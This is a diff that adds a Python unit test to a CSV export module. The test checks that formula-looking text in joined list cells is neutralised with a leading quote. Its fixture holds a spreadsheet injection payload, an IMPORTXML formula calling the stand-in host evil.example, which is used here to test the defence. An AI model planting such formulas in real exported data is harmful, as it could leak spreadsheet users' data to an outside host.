@@ -35,3 +35,9 @@ def test_formula_looking_text_is_defused_and_other_values_are_untouched() -> Non
         "a b",
         "",
     )
+
+
+def test_joined_list_cells_are_checked_too() -> None:
+    rows = [_row(image_urls=['=IMPORTXML("http://evil.example")', "https://a.example/1.jpg"])]
+    [parsed] = [dict(zip(CSV_FIELDS, r, strict=True)) for r in csv.reader(io.StringIO(_csv(rows)))]
+    assert parsed["image_urls"] == '\'=IMPORTXML("http://evil.example") https://a.example/1.jpg'
